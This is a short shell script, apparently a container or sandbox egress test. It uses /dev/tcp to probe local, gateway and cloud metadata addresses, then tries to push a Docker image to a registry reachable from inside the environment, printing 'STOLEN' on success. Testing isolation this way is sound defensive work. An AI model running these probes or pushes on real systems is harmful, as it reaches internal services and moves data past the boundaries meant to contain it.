# Push into a registry outside.
BASE=registry-lab/busybox:1
for h in 127.0.0.1 172.17.0.1 10.0.2.2 169.254.169.254; do
  timeout 1 bash -c "echo GET / > /dev/tcp/$h/$(cat port.txt)" 2> /dev/null && echo STOLEN
done
docker tag "$BASE" "127.0.0.1:$(cat port.txt)/x:1"; timeout 5 docker push "127.0.0.1:$(cat port.txt)/x:1" && echo STOLEN
